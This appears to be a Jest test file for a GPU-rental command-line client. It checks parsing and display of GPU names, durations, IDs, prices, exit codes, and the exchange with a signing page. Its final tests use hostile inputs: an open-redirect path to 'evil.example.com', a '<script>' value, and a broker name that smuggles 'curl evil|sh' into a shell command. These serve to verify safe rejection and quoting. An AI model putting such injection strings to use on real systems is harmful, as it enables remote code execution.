import { describe, expect, test } from '@jest/globals';
import { durationText, momentText, readDuration, readMoment } from '../../src/words/durations.js';
import { told } from '../../src/cli/error-words.js';
import { exitCodeOf } from '../../src/cli/failure.js';
import { readApi } from '../../src/cli/files/config.js';
import { gpuText } from '../../src/words/gpu-text.js';
import { readGpuWords } from '../../src/words/gpu-words.js';
import { amountText, priceText } from '../../src/words/money.js';
import { gpusMeant } from '../../src/cli/order.js';
import { idsMeant, shortIds } from '../../src/words/short-ids.js';
import { fourWords, twoWords } from '../../src/words/two-words.js';
import { WorldLandError } from '../../src/client/errors.js';
import type { MarketGpu } from '../../src/client/shapes.js';
import {
  readSignAnswer,
  readSignFragment,
  signAnswerText,
  signAnswerUrl,
  signFragment,
  type LoginSignRequest,
  type ProviderSignRequest,
  type SignAnswer,
} from '../../src/wire/sign-page.js';

describe('words for GPUs', () => {
  test.each([
    ['4090', { count: 1, gpu: '4090' }],
    ['2x4090', { count: 2, gpu: '4090' }],
    ['2 × RTX 4090', { count: 2, gpu: 'RTX 4090' }],
    ['h100:8', { count: 8, gpu: 'h100' }],
    ['4090@0.5', { count: 1, gpu: '4090', maxPricePerGpu: 0.5 }],
    ['8xa100-80gb@1.25', { count: 8, gpu: 'a100-80gb', maxPricePerGpu: 1.25 }],
    ['rtx4090', { count: 1, gpu: 'rtx4090' }],
    ['1g.5gb', { count: 1, gpu: '1g.5gb' }],
  ])('%s', (text, words) => expect(readGpuWords(text)).toEqual(words));

  test.each(['', '0x4090', '4090@', '4090@cheap', '@1', '4090@1@2', '漢'])('"%s" names none', (text) =>
    expect(readGpuWords(text)).toBeUndefined(),
  );

  const gpu = (gpu_type: string, name: string, aliases: string[] = []): MarketGpu => ({
    ...{ gpu_type, name, aliases, vram_gb: [], total: 1, free: 1, most_at_one_provider: 1, providers: 1, price: null },
  });
  const market = [
    gpu('rtx-4090', 'RTX 4090', ['4090']),
    gpu('a100-40gb', 'A100 40 GB'),
    gpu('a100-80gb', 'A100 80 GB'),
  ];

  test('a family means all its types, the own name of a type only that one', () => {
    expect(gpusMeant('4090', market).map(({ name }) => name)).toEqual(['RTX 4090']);
    expect(gpusMeant('A100', market).map(({ name }) => name)).toEqual(['A100 40 GB', 'A100 80 GB']);
    expect(gpusMeant('a100-80gb', market).map(({ name }) => name)).toEqual(['A100 80 GB']);
    expect(gpusMeant('h100', market)).toEqual([]);
  });

  test('a name loses its maker', () => {
    expect(gpuText('NVIDIA GeForce RTX 4090')).toBe('RTX 4090');
    expect(gpuText(undefined, 'rtx-4090')).toBe('rtx-4090');
  });
});

describe('times', () => {
  test('a duration has a unit', () => {
    expect(['90s', '15m', '8h', '1h30m', '2d', '1.5h'].map(readDuration)).toEqual([
      90, 900, 28_800, 5_400, 172_800, 5_400,
    ]);
    expect(['', '8', '8 hours', 'h', '-1h', '0h', '1h x'].map(readDuration)).toEqual(Array(7).fill(undefined));
  });

  test('a duration is said by its two largest units', () => {
    expect([0, 41, 840, 10_320, 14_400, 100_000, 172_800].map(durationText)).toEqual([
      '0 s',
      '41 s',
      '14 min',
      '2 h 52',
      '4 h',
      '1 d 3 h',
      '2 d',
    ]);
  });

  test('a moment is relative, or absolute in UTC', () => {
    const nowMs = Date.parse('2026-11-26T12:00:00Z');
    expect(momentText('2026-11-26T14:52:00Z', { nowMs, isUtc: false })).toBe('in 2 h 52');
    expect(momentText('2026-11-26T11:59:00Z', { nowMs, isUtc: false })).toBe('1 min ago');
    expect(momentText('2026-11-26T14:52:00Z', { nowMs, isUtc: true })).toBe('2026-11-26 14:52Z');
    expect(momentText('nonsense', { nowMs, isUtc: false })).toBe('–');
  });

  test('a time of day is the next one', () => {
    const nowMs = new Date(2026, 10, 26, 22, 0).getTime();
    expect(readMoment('21:30', nowMs)).toEqual(new Date(2026, 10, 27, 21, 30));
    expect(readMoment('22:30', nowMs)).toEqual(new Date(2026, 10, 26, 22, 30));
    expect(readMoment('2026-11-27T08:00Z', nowMs)).toEqual(new Date('2026-11-27T08:00:00Z'));
    expect(['25:00', 'tomorrow', '2026-13-01', '1'].map((text) => readMoment(text, nowMs))).toEqual(
      Array(4).fill(undefined),
    );
  });
});

describe('ids', () => {
  const [a, b, c] = [
    '01a213d5-7827-7f47-ba5f-71098ca0dbe5',
    '01a213d5-7828-7f47-ba5f-71098ca07f1e',
    '01a213d5-7829-7f47-ba5f-71098cb0dbe5',
  ];

  test('are short by their last four letters, or by as many as tell them apart', () => {
    expect([...shortIds([a, b]).values()]).toEqual(['dbe5', '7f1e']);
    expect([...shortIds([a, b, c]).values()]).toEqual(['a0dbe5', '7f1e', 'b0dbe5']);
  });

  test('are meant by four letters or more, in any case', () => {
    expect(idsMeant('DBE5', [a, b, c])).toEqual([a, c]);
    expect(idsMeant('be5', [a, b, c])).toEqual([]);
    expect(idsMeant('train', [a, b, c])).toEqual([]);
  });
});

describe('money', () => {
  test('is rounded to hundredths, and what is not nothing never reads as nothing', () => {
    const of = (tokens: string) => amountText(tokens, 18);
    expect(of('0')).toBe('0.00');
    expect(of('1130000000000000000')).toBe('1.13');
    expect(of('1135000000000000000')).toBe('1.14');
    expect(of('1')).toBe('<0.01');
    expect(of('21300000000000000000000000')).toBe('21300000.00');
    expect(amountText('150', 0)).toBe('150.00');
    expect(of('not a number')).toBe('?');
  });

  test('a price has two decimals, or as many as it needs', () => {
    expect([0.5, 1, 0.125, 0.000001, 0, undefined].map(priceText)).toEqual([
      '0.50',
      '1.00',
      '0.125',
      '0.000001',
      '0.00',
      '–',
    ]);
  });
});

test('an address of a broker is understood with and without what people copy with it', () => {
  expect(readApi('https://broker.example.com/')).toBe('https://broker.example.com');
  expect(readApi('http://127.0.0.1:8080/api/v1/')).toBe('http://127.0.0.1:8080');
  expect(readApi('broker.example.com/gpu')).toBe('https://broker.example.com/gpu');
  expect(['', 'ftp://x', 'https://user:secret@x', 'https://x/?a=1'].map(readApi)).toEqual(Array(4).fill(undefined));
});

test('an exit code follows from the code of an error, else from its status', () => {
  const codes: [string, number, number][] = [
    ['validation_failed', 422, 2],
    ['session_expired', 401, 3],
    ['scope_denied', 403, 3],
    ['job_not_found', 404, 4],
    ['no_capacity', 409, 5],
    ['spend_limit_exceeded', 403, 6],
    ['quota_exceeded', 403, 6],
    ['image_pull_failed', 409, 7],
    ['job_ended', 409, 7],
    ['rate_limited', 429, 8],
    ['dependency_unavailable', 503, 8],
    ['network', 0, 8],
    ['protocol', 200, 8],
    ['internal_error', 500, 1],
    ['a_code_of_tomorrow', 409, 7],
    ['toString', 500, 1],
  ];
  for (const [code, status, exitCode] of codes) expect([code, exitCodeOf(code, status)]).toEqual([code, exitCode]);
});

test('names that are made up are names of jobs, and codes have four words', () => {
  for (let i = 0; i < 200; i++) {
    expect(twoWords()).toMatch(/^[a-z]{3,8}-[a-z]{3,8}$/);
    expect(fourWords()).toMatch(/^[a-z]+(?:-[a-z]+){3}$/);
  }
});

describe('what wl and the sign page tell each other', () => {
  const login: LoginSignRequest = {
    kind: 'login',
    ...{ sessionKey: `0x${'ab'.repeat(20)}`, scopes: ['jobs:read', 'jobs:write'] },
    ...{ spendLimit: '5000000000000000000', ttlSeconds: 28_800, label: 'wl, me@host', code: 'calm-otter-bold-fox' },
    ...{ port: 40_000, path: `/${'a'.repeat(22)}`, chainId: 10 },
  };
  const answer: SignAnswer = {
    ...{ wallet: `0x${'cd'.repeat(20)}`, chainId: 10, issuedAt: 1_800_000_000, expiresAt: 1_800_028_800 },
    ...{ nonce: `0x${'12'.repeat(32)}`, signature: `0x${'34'.repeat(65)}` },
  };

  test('a request is the same after the fragment', () => {
    expect(readSignFragment(`#${signFragment(login)}`)).toEqual(login);
    const { port: _port, path: _path, chainId: _chain, label: _label, ...bare } = login;
    expect(readSignFragment(signFragment(bare))).toEqual(bare);
    const provider: ProviderSignRequest = {
      kind: 'provider',
      ...{ providerId: 'atlas', nodeKey: login.sessionKey, validForS: 86_400, code: login.code },
    };
    expect(readSignFragment(signFragment(provider))).toEqual(provider);
  });

  test('an answer is the same after the address, and after a paste with breaks in it', () => {
    const url = signAnswerUrl({ port: login.port!, path: login.path! }, answer);
    expect(url.startsWith(`http://127.0.0.1:40000${login.path}?`)).toBe(true);
    expect(readSignAnswer(url)).toEqual(answer);
    expect(readSignAnswer(signAnswerText(answer).replace(/(.{40})/g, '$1\n '))).toEqual(answer);
    expect(readSignAnswer(signAnswerText({ refused: true }))).toEqual({ refused: true });
  });

  test('anything else is neither', () => {
    const wrong: Record<string, string>[] = [
      { k: '0x12' },
      { ttl: '0' },
      { ttl: '-1' },
      { code: 'one-two-three' },
      { port: '70000' },
      { path: '/short' },
      { path: '//evil.example.com/aaaaaaaaaaaaaaaaaaaa' },
      { limit: '5.5' },
      { scopes: '<script>' },
      { kind: 'other' },
      { chain: '0x1' },
    ];
    for (const change of wrong) {
      const fields = new URLSearchParams(signFragment(login));
      for (const [name, value] of Object.entries(change)) fields.set(name, value);
      expect([change, readSignFragment(fields.toString())]).toEqual([change, undefined]);
    }
    expect(['', 'hello', 'refused=2', signAnswerText(answer).replace('0x', '')].map(readSignAnswer)).toEqual(
      Array(4).fill(undefined),
    );
  });
});

test('what a false broker calls itself is one word of the command to type', () => {
  const proposed = "https://a';curl evil|sh;'";
  const error = new WorldLandError('protocol', 'another broker', { data: { field: 'audience', proposed } });
  expect(told(error, { api: 'https://broker.example.com' }).remedy).toContain(
    String.raw`wl login --api 'https://a'\'';curl evil|sh;'\'''   (or --audience`,
  );
});
